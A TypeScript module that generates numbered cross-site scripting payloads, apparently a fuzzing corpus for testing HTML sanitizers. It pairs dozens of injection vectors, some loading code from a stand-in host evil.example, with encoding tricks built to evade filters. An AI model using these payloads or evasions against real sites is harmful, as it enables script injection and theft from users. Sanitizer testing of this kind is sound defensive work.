/** Markup that would run something in a careless page, each in its own way. `RUN` stands for what it runs. */
const vectors = [
  '<script>RUN</script>',
  '<script/x>RUN</script >',
  '<script src="https://evil.example/RUN.js"></script>',
  '<img src=x onerror="RUN">',
  '<img/src="x"/onerror=RUN>',
  '<svg onload="RUN">',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>click</text></a></svg>',
  '<body onload="RUN">',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<a href="javascript:RUN">click</a>',
  '<a href="data:text/html,<script>RUN</script>">click</a>',
  '<object data="javascript:RUN"></object>',
  '<embed src="data:image/svg+xml,<svg onload=RUN>">',
  '<form action="javascript:RUN"><button formaction="javascript:RUN">go</button></form>',
  '<input autofocus onfocus="RUN">',
  '<details open ontoggle="RUN"><summary>more</summary></details>',
  '<video><source onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<marquee onstart="RUN">words</marquee>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:RUN">click</maction></math>',
  '<style>@import "https://evil.example/RUN.css"; p { background: url(javascript:RUN) }</style>',
  '<p style="background:url(javascript:RUN);behavior:url(x.htc)">words</p>',
  '<link rel="import" href="https://evil.example/RUN.html">',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  '<template shadowrootmode="open"><img src=x onerror="RUN"></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">words</p></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '"><script>RUN</script>',
  "' autofocus onfocus=RUN x='",
  '--><script>RUN</script><!--',
  ']]><script>RUN</script>',
  '<?xml-stylesheet href="javascript:RUN"?>',
  "';RUN;//",
  '${RUN}',
  '{{constructor.constructor("RUN")()}}',
  '<!--?lit$0$--><img src=x onerror=RUN>',
  '<x-y onpointerenter=RUN style="display:block">words</x-y>',
  '<button popovertarget=x onbeforetoggle=RUN>words</button>',
] as const

/** Ways to write markup so that a filter does not know it. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll(/[<>"]/g, (sign) => `&#${sign.charCodeAt(0)}`),
  (markup) => markup.replaceAll(/[<>"]/g, (sign) => `&#x${sign.charCodeAt(0).toString(16)};`),
  (markup) => markup.replaceAll('&', '&amp;').replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (markup) => markup.replaceAll('javascript:', 'java\tscr\nipt:').replaceAll('onerror', 'onerror\f'),
  (markup) => markup.replaceAll('script', 'scr\u0000ipt'),
  (markup) => markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (markup) => markup.replaceAll(/[<>"]/g, (sign) => encodeURIComponent(sign)),
  (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (markup) => markup.replaceAll('<', '<\u200b').replaceAll('=', '\u00a0=\u00a0'),
  (markup) => markup.replaceAll('<script', '<scr<script>ipt').replaceAll('</script>', '</scr</script>ipt>'),
]

/** How many different payloads there are. */
export const mostPayloads = vectors.length * disguises.length

/** The payload with this number, from 0 on: neighbours differ in vector and in disguise. What it runs says its number. */
export function payload(number: number): string {
  const vector = vectors[number % vectors.length] ?? ''
  const disguise = disguises[(number + Math.floor(number / vectors.length)) % disguises.length]
  return disguise?.(vector.replaceAll('RUN', `alert(${number})`)) ?? ''
}
